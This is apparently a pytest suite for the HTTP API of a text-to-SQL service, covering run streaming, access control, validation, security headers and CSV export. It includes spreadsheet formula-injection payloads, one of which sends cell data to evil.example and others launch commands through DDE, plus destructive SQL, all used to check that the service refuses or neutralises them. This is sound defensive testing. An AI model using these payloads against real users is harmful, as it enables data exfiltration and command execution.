"""The HTTP API of ``quorlix serve`` against a real server on 127.0.0.1 and the stub model."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import socket
import sqlite3
import time

import pytest
from graph_scripts import BROKEN_SQL, CITY_ORDERS_SQL
from quorlix.service import Limits
from service_support import (
    Answers,
    build_service,
    feed,
    newest_answer_only,
    serve_in_thread,
    sse_events,
    wait_for_status,
)
from sqlalchemy import create_engine
from support.databases import build_sample_sqlite

pytestmark = pytest.mark.filterwarnings("ignore:Parameters {'top_p'}:UserWarning")

ALICE, BOB = "alice-token-0123456789", "bob-token-0123456789ab"
TOKENS = {ALICE: "alice", BOB: "bob"}


@pytest.fixture(scope="module")
def sample_db(tmp_path_factory):
    return build_sample_sqlite(tmp_path_factory.mktemp("db") / "sample.db")


@pytest.fixture(scope="module")
def answers():
    return Answers()


@pytest.fixture(scope="module")
def module_server(stub_openai_server, sample_db, answers, tmp_path_factory):
    # One server for the module: building the graph and starting the server cost seconds.
    with pytest.MonkeyPatch.context() as patch:
        for name, value in stub_openai_server.environment().items():
            patch.setenv(name, value)
        store = tmp_path_factory.mktemp("store") / "runs.db"
        service = build_service(sample_db.url, f"sqlite:///{store}", Limits(), tokens=TOKENS)
        running = serve_in_thread(service)
        yield running
        running.stop()
        service.store.close()


@pytest.fixture
def server(module_server, stub_openai_server, answers):
    stub_openai_server.reset()
    feed(stub_openai_server, answers)
    answers.pause = 0.0
    store = module_server.service.store
    for run in store.list_runs("alice", 1000) + store.list_runs("bob", 1000):
        store.delete_run(run["id"])
    yield module_server
    answers.pause = 0.0


def ask(client, question: str, **options) -> dict:
    response = client.post("/v1/runs?wait=true", json={"question": question, **options})
    assert response.status_code == 200, response.text
    return response.json()


def test_a_run_end_to_end(server):
    with server.client(ALICE) as client:
        record = ask(client, "How many orders per city? [[cities]]")
        assert record["status"] == "succeeded", record["error"]
        # The waiting answer is handed over by the worker that ended the run, not read back.
        assert client.get(f"/v1/runs/{record['id']}").json() == record
        assert record["answer"] == "Answer: Analysed: cities"
        assert record["final_sql"] == CITY_ORDERS_SQL
        assert record["result"]["columns"] == ["city", "order_count"]
        assert record["result"]["rows"] == [
            ["Berlin", 1],
            ["Dublin", 2],
            ["Milan", 1],
            ["Prague", 1],
        ]
        assert [a["outcome"] for a in record["sql_attempts"]] == ["succeeded"]
        assert record["analysis_output"].strip() == "Analysed: cities"
        nodes = [step["node"] for step in record["steps"]]
        assert nodes[0] == "init_node" and nodes[-1] == "final_response_generation_node"
        assert record["steps"][-1]["summary"] == "wrote the answer"
        usage = record["usage"]
        assert usage["usage_reported"] and usage["total_tokens"] > 0
        assert usage["model_calls"] == sum(
            node["model_calls"] for node in usage["by_node"].values()
        )
        assert {"sql_generation_node", "final_response_generation_node"} <= set(usage["by_node"])
        chart = client.get(record["chart_url"])
        assert chart.headers["content-type"] == "image/png"
        assert chart.content.startswith(b"\x89PNG")
        rows = list(csv.reader(io.StringIO(client.get(f"/v1/runs/{record['id']}/result.csv").text)))
        assert rows[0] == ["city", "order_count"] and rows[2] == ["Dublin", "2"]


def test_the_runs_own_folder_is_not_shown(server, answers):
    answers.printed = lambda question: "Chart saved to <chart>"
    try:
        with server.client(ALICE) as client:
            record = ask(client, "Orders per city, as a chart? [[folder]]")
    finally:
        answers.printed = Answers().printed
    assert record["analysis_output"].strip() == "Chart saved to chart.png"
    assert record["answer"] == "Answer: Chart saved to chart.png"


def test_event_stream_resumes_where_it_dropped(server, answers):
    answers.pause = 0.05
    with server.client(ALICE) as client:
        run_id = client.post("/v1/runs", json={"question": "Orders? [[live]]"}).json()["id"]
        seen = []
        with client.stream("GET", f"/v1/runs/{run_id}/events") as response:
            assert response.headers["content-type"].startswith("text/event-stream")
            body = ""
            for chunk in response.iter_text():
                body += chunk
                seen = sse_events(body.rsplit("\n\n", 1)[0] + "\n\n")
                if len(seen) >= 3:
                    break  # the connection drops mid-run
        assert seen and seen[-1]["event"] == "step"
        rest = client.get(
            f"/v1/runs/{run_id}/events", headers={"Last-Event-ID": str(seen[2]["id"])}
        )
        resumed = sse_events(rest.text)
        whole = sse_events(client.get(f"/v1/runs/{run_id}/events").text)
        # A run keeps only its newest answer text: one read while the answer was written may
        # have had an older one.
        assert newest_answer_only(seen[:3] + resumed) == whole
        ids = [event["id"] for event in whole]
        assert ids == sorted(set(ids))
        assert whole[-1] == {"id": ids[-1], "event": "end", "data": whole[-1]["data"]}
        assert whole[-1]["data"]["status"] == "succeeded"
        record = client.get(f"/v1/runs/{run_id}").json()
        assert [event["data"] for event in whole if event["event"] == "step"] == record["steps"]


def test_the_answer_streams_before_its_step_and_a_resumed_stream_gets_the_newest(
    server, stub_openai_server
):
    stub_openai_server.stream_pace(first_piece_s=0.05, every_s=0.01, piece_chars=2)
    with server.client(ALICE) as client:
        run_id = client.post("/v1/runs", json={"question": "Orders? [[streamed]]"}).json()["id"]
        live = sse_events(client.get(f"/v1/runs/{run_id}/events").text)
        record = client.get(f"/v1/runs/{run_id}").json()
        texts = [event["data"]["text"] for event in live if event["event"] == "answer"]
        assert len(texts) > 2 and texts[-1] == record["answer"] == "Answer: Analysed: streamed"
        assert all(
            later.startswith(earlier) for earlier, later in zip(texts[:-1], texts[1:], strict=True)
        )
        kinds = [event["event"] for event in live]
        assert kinds[-3:] == ["answer", "step", "end"]
        first_answer = next(event["id"] for event in live if event["event"] == "answer")
        resumed = client.get(
            f"/v1/runs/{run_id}/events", headers={"Last-Event-ID": str(first_answer)}
        )
        # What the client missed since its first text: the newest text, then the rest.
        assert sse_events(resumed.text) == [event for event in live[-3:]]


def test_a_dropped_event_stream_lets_go_of_its_run(server, answers):
    # The run is held mid-way, so only the client leaving can end the stream.
    answers.gate.clear()
    try:
        with server.client(ALICE) as client:
            run_id = client.post("/v1/runs", json={"question": "Held? [[held]]"}).json()["id"]
            with client.stream("GET", f"/v1/runs/{run_id}/events") as response:
                next(response.iter_text())
            followers = server.service.changes._followers
            ends = time.monotonic() + 10
            while run_id in followers and time.monotonic() < ends:
                time.sleep(0.05)
            assert run_id not in followers
    finally:
        answers.gate.set()
    with server.client(ALICE) as client:
        assert wait_for_status(client, run_id, {"succeeded"})["status"] == "succeeded"


def test_history_pages_newest_first_and_feedback_is_kept(server):
    with server.client(ALICE) as client:
        ids = [ask(client, f"Question {n} [[q{n}]]")["id"] for n in range(3)]
        first = client.get("/v1/runs", params={"limit": 2}).json()
        second = client.get("/v1/runs", params={"limit": 2, "cursor": first["next_cursor"]}).json()
        listed = [run["id"] for run in first["runs"] + second["runs"]]
        assert listed == ids[::-1] and second["next_cursor"] is None
        given = {"rating": "down", "corrected_sql": "SELECT city FROM customers"}
        assert client.post(f"/v1/runs/{ids[0]}/feedback", json=given).status_code == 200
        assert client.get(f"/v1/runs/{ids[0]}").json()["feedback"] == given


@pytest.mark.parametrize(
    ("token", "path", "method", "status"),
    [
        (None, "/v1/runs", "GET", 401),
        ("not-a-token-of-anyone-at-all", "/v1/runs", "GET", 401),
        (BOB, "/v1/runs/{id}", "GET", 404),
        (BOB, "/v1/runs/{id}/events", "GET", 404),
        (BOB, "/v1/runs/{id}/chart", "GET", 404),
        (BOB, "/v1/runs/{id}/result.csv", "GET", 404),
        (BOB, "/v1/runs/{id}/feedback", "POST", 404),
        (ALICE, "/v1/runs/{id}", "GET", 200),
    ],
)
def test_each_user_sees_only_their_own_runs(server, token, path, method, status):
    with server.client(ALICE) as alice:
        run_id = ask(alice, "Mine [[alice]]")["id"]
    with server.client(token) as client:
        body = {"rating": "up"} if method == "POST" else None
        response = client.request(method, path.format(id=run_id), json=body)
    assert response.status_code == status, response.text
    with server.client(BOB) as bob:
        assert bob.get("/v1/runs").json()["runs"] == []


@pytest.mark.parametrize(
    ("body", "status", "message"),
    [
        ({"question": "   "}, 422, "the question is empty"),
        ({"question": "x" * 2001}, 422, "at most 2000"),
        ({"question": "ok", "colour": "red"}, 422, "unknown field 'colour'"),
        ({"question": "ok", "analysis_tries": 0}, 422, "analysis_tries"),
        (b'{"question": ', 422, "not valid JSON"),
        ({"question": "y" * 70_000}, 413, "larger than 64 KiB"),
        # Latin-1, not UTF-8: the framework alone would answer 400.
        ('{"question": "Umsatz für März?"}'.encode("latin-1"), 422, "it is not UTF-8 text"),
        (b'{"question": "ok", "analysis_tries": ' + b"1" * 4301 + b"}", 422, "not valid JSON"),
        (b'{"question": "half a pair \\ud800 here"}', 422, "unpaired surrogate (\\ud800)"),
        ({"question": "a\x00b"}, 422, "NUL character"),
    ],
)
def test_bad_requests_are_refused_and_not_stored(server, body, status, message):
    with server.client(ALICE) as client:
        if isinstance(body, bytes):
            response = client.post(
                "/v1/runs", content=body, headers={"content-type": "application/json"}
            )
        else:
            response = client.post("/v1/runs", json=body)
    assert response.status_code == status
    assert message in response.json()["detail"]
    assert server.service.store.count_runs() == 0


@pytest.mark.parametrize(
    ("sql", "status", "expected"),
    [
        ("SELECT name FROM customers ORDER BY id LIMIT 2", 200, ["Ada Byrne", "Tomas Novak"]),
        ("DELETE FROM customers", 422, "Refused"),
        ("SELECT name FROM customers; DROP TABLE orders", 422, "Refused"),
        ("SELECT nothing FROM nowhere", 422, "database error"),
    ],
)
def test_edited_sql_runs_read_only(server, sample_db, sql, status, expected):
    with server.client(ALICE) as client:
        response = client.post("/v1/sql", json={"sql": sql})
    assert response.status_code == status, response.text
    if status == 200:
        assert response.json()["columns"] == ["name"]
        assert [row[0] for row in response.json()["rows"]] == expected
    else:
        assert expected in response.json()["detail"]
    with contextlib.closing(sqlite3.connect(sample_db.path)) as conn:
        counts = [
            conn.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0] for t in ("customers", "orders")
        ]
    assert counts == [4, 5]


def test_an_edited_query_downloads_as_csv(server, sample_db):
    sql = "SELECT city, COUNT(*) AS n FROM customers GROUP BY city ORDER BY city"
    with server.client(ALICE) as client:
        response = client.post("/v1/sql?format=csv", json={"sql": sql})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    with contextlib.closing(sqlite3.connect(sample_db.path)) as connection:
        expected = [[str(cell) for cell in row] for row in connection.execute(sql)]
    assert list(csv.reader(io.StringIO(response.text))) == [["city", "n"], *expected]


def test_tables_health_and_metrics(server):
    with server.client(ALICE) as client:
        before = client.get("/metrics").text
        ask(client, "Count [[metrics]]")
        tables = {table["name"]: table for table in client.get("/v1/tables").json()["tables"]}
        assert [col["name"] for col in tables["customers"]["columns"]] == ["id", "name", "city"]
        assert client.get("/healthz").json() == {"status": "ok"}
        ready = client.get("/readyz").json()
        assert (ready["database"], ready["store"]) == ("ok", "ok")
        metrics = client.get("/metrics").text
    assert sample(metrics, 'quorlix_runs_total{status="succeeded"}') == 1 + sample(
        before, 'quorlix_runs_total{status="succeeded"}'
    )
    node = 'quorlix_node_duration_seconds_count{node="sql_execution_node"}'
    assert sample(metrics, node) == 1 + sample(before, node)
    assert sample(metrics, "quorlix_queue_length") == 0


def sample(text: str, name: str) -> float:
    for line in text.splitlines():
        if line.startswith(name + " "):
            return float(line.rsplit(" ", 1)[1])
    return 0.0


def test_concurrent_runs_keep_their_outputs_apart(server):
    import concurrent.futures

    with server.client(ALICE) as client:
        with concurrent.futures.ThreadPoolExecutor(6) as pool:
            records = list(pool.map(lambda n: ask(client, f"Run [[tag-{n}]]"), range(6)))
    assert [record["answer"] for record in records] == [
        f"Answer: Analysed: tag-{n}" for n in range(6)
    ]


def test_every_failed_sql_attempt_is_recorded(server, answers):
    answers.sql = lambda question: BROKEN_SQL if question == "broken" else CITY_ORDERS_SQL
    try:
        with server.client(ALICE) as client:
            record = ask(client, "Revenue? [[broken]]")
    finally:
        answers.sql = lambda question: CITY_ORDERS_SQL
    attempts = record["sql_attempts"]
    assert len(attempts) > 1
    assert {attempt["outcome"] for attempt in attempts} == {"failed"}
    assert all("no such table: no_such_table" in attempt["error"] for attempt in attempts)
    assert record["result"] is None
    assert client_csv_status(server, record["id"]) == 404
    assert any(step["summary"].startswith("query failed") for step in record["steps"])


def client_csv_status(server, run_id: str) -> int:
    with server.client(ALICE) as client:
        return client.get(f"/v1/runs/{run_id}/result.csv").status_code


@pytest.mark.parametrize(
    ("path", "policy"),
    [
        ("/", True),
        ("/static/app.js", True),
        ("/v1/tables", True),
        ("/docs", False),
        # No OAuth2 here, so no redirect page: what answers there has the policy too.
        ("/docs/oauth2-redirect", True),
    ],
)
def test_security_headers(server, path, policy):
    with server.client(ALICE) as client:
        response = client.get(path)
    assert response.status_code == (404 if "oauth2" in path else 200), response.text
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    # The API docs load their viewer from a CDN, so only they go without the page's policy.
    csp = response.headers.get("content-security-policy", "")
    assert ("script-src 'self'" in csp and "default-src 'none'" in csp) is policy
    assert (response.headers.get("x-frame-options") == "DENY") is policy
    assert len(response.headers.get_list("content-security-policy")) == int(policy)


# 50 rows of 200,000 characters: before, every cell went out whole (a 2 MB response).
LONG_ROWS = (
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 50)"
    " SELECT printf('%.*c', 200000, 'a') AS long_text, n FROM r"
)


def test_edited_sql_results_keep_to_the_character_cap(server):
    with server.client(ALICE) as client:
        response = client.post("/v1/sql", json={"sql": LONG_ROWS})
    assert response.status_code == 200, response.text
    assert len(response.text) <= server.service.db.max_result_chars + 100
    assert_capped(response.json())


def test_a_runs_recorded_rows_keep_to_the_character_cap(server, answers):
    answers.sql = lambda question: LONG_ROWS
    try:
        with server.client(ALICE) as client:
            record = ask(client, "Long texts? [[long]]")
    finally:
        answers.sql = Answers().sql
    assert len(json.dumps(record["result"])) <= server.service.db.max_result_chars + 100
    assert_capped(record["result"])


def assert_capped(result: dict) -> None:
    assert result["columns"] == ["long_text", "n"] and result["truncated"] is True
    assert [row[1] for row in result["rows"]] == list(range(1, len(result["rows"]) + 1))
    assert result["rows"][0][0].startswith("aaa") and result["rows"][0][0].endswith("…")


@pytest.mark.parametrize("cursor", ["²", "1" * 20, "9" * 5000, "-1"])
def test_a_crafted_cursor_is_refused(server, cursor):
    with server.client(ALICE) as client:
        response = client.get("/v1/runs", params={"cursor": cursor})
    assert response.status_code == 422
    assert response.json()["detail"] == "cursor must be the next_cursor of an earlier page"


@pytest.mark.parametrize("last_event_id", ["9" * 20, "9" * 5000, "²"])
def test_an_event_id_that_cannot_be_ours_resumes_from_the_start(server, last_event_id):
    with server.client(ALICE) as client:
        run_id = ask(client, "Resume [[resume]]")["id"]
        whole = client.get(f"/v1/runs/{run_id}/events").text
        resumed = client.get(
            f"/v1/runs/{run_id}/events", headers={"Last-Event-ID": last_event_id.encode()}
        )
    assert resumed.status_code == 200
    assert sse_events(resumed.text) == sse_events(whole)


FORMULAS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', True),
    ("+cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("\tleading tab", True),
    ("\rleading return", True),
    ("-12.50", False),
    ("+3e5", False),
    ("plain text", False),
]


def test_the_csv_keeps_cells_from_running_as_formulas(server, answers):
    columns = ", ".join(f"{sql_literal(value)} AS c{n}" for n, (value, _) in enumerate(FORMULAS))
    sql = f"SELECT {columns}, -7 AS n, 2.5 AS x, 'a' AS \"=1+1\" FROM customers LIMIT 1"
    answers.sql = lambda question: sql if question == "formulas" else CITY_ORDERS_SQL
    try:
        with server.client(ALICE) as client:
            record = ask(client, "Export [[formulas]]")
            text = client.get(f"/v1/runs/{record['id']}/result.csv").text
    finally:
        answers.sql = lambda question: CITY_ORDERS_SQL
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header[-1] == "'=1+1"
    expected = ["'" + value if neutralised else value for value, neutralised in FORMULAS]
    assert row == expected + ["-7", "2.5", "a"]


def sql_literal(value: str) -> str:
    # SQLite string literals cannot hold a tab or a carriage return as an escape.
    pieces = ["char(9)" if c == "\t" else "char(13)" if c == "\r" else c for c in value]
    out, text = [], ""
    for piece in pieces:
        if piece.startswith("char("):
            if text:
                out.append("'" + text.replace("'", "''") + "'")
                text = ""
            out.append(piece)
        else:
            text += piece
    if text:
        out.append("'" + text.replace("'", "''") + "'")
    return " || ".join(out)


@pytest.mark.parametrize(
    "path", ["/healthz", "/", "/static/app.js", "/v1/runs", "/v1/runs/{id}", "/v1/runs/{id}/events"]
)
def test_head_answers_as_get_without_a_body(server, path):
    with server.client(ALICE) as client:
        run_id = client.post("/v1/runs", json={"question": "Still going [[head]]"}).json()["id"]
        url = path.format(id=run_id)
        got = client.get(url) if not url.endswith("/events") else None
        head = client.head(url)
    assert head.status_code == 200 and head.content == b""
    if got is not None:
        assert head.headers["content-type"] == got.headers["content-type"]
    else:
        assert head.headers["content-type"].startswith("text/event-stream")
    assert head.headers["x-content-type-options"] == "nosniff"


def test_a_store_that_is_down_answers_503(server, monkeypatch):
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    down = create_engine(f"postgresql+psycopg2://postgres@127.0.0.1:{port}/quorlix")
    monkeypatch.setattr(server.service.store, "engine", down)
    with server.client(ALICE) as client:
        response = client.get("/v1/runs/0123456789abcdef0123456789abcdef")
    assert response.status_code == 503
    assert response.json()["detail"].startswith(
        "the server cannot reach its run store or database now; try again shortly"
    )
    assert response.headers["retry-after"]


def test_metrics_count_each_deployments_tokens(server):
    def tokens(text: str, deployment: str, direction: str) -> float:
        name = f'quorlix_model_tokens_total{{deployment="{deployment}",direction="{direction}"}}'
        return sample(text, name) if name + " " in text else 0.0

    with server.client(ALICE) as client:
        before = client.get("/metrics").text
        record = ask(client, "Count [[tokens]]")
        after = client.get("/metrics").text
    by_deployment = record["usage"]["by_deployment"]
    assert len(by_deployment) > 1
    for deployment, usage in by_deployment.items():
        for direction, reported in (("input", "prompt_tokens"), ("output", "completion_tokens")):
            spent = tokens(after, deployment, direction) - tokens(before, deployment, direction)
            assert spent == usage[reported]
